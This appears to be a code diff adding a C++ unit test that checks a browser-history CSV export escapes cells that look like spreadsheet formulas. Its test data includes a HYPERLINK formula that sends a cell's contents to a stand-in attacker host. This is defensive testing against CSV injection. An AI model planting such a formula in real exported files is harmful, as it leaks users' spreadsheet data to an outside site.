@@ -122,6 +122,21 @@ TEST(HistoryExportTest, StandardReadersGetTheSameEntriesBack) {
     EXPECT_EQ(ExportKindName(dkWebPage), "网页");
 }
 
+// A page title is whatever the page chose: opened in a spreadsheet, the export must not
+// run it as a formula (one that sends the sheet's cells to another site when clicked).
+TEST(HistoryExportTest, CellsThatLookLikeFormulasStayText) {
+    const std::string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+    const DocTable docs = {Doc(dkWebPage, "http://evil.example/", link, "+evil", "-1"),
+                           Doc(dkWebPage, "@SUM(A1)", "\tTab", "\rCR", "2026-12-08")};
+    EXPECT_EQ(HistoryAsCsv(docs),
+              "\xEF\xBB\xBFkind,name,address,group,date\r\n"
+              "网页,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
+              "http://evil.example/,'+evil,'-1\r\n"
+              "网页,'\tTab,'@SUM(A1),\"'\rCR\",2026-12-08\r\n");
+    // The JSON export is for programs, which take the text as it is.
+    EXPECT_NE(HistoryAsJson(docs).find("\"name\": \"=HYPERLINK("), std::string::npos);
+}
+
 TEST(HistoryExportTest, AnEmptyHistoryGivesAHeaderAndAnEmptyArray) {
     EXPECT_EQ(HistoryAsCsv({}), "\xEF\xBB\xBFkind,name,address,group,date\r\n");
     EXPECT_EQ(HistoryAsJson({}), "[]\n");
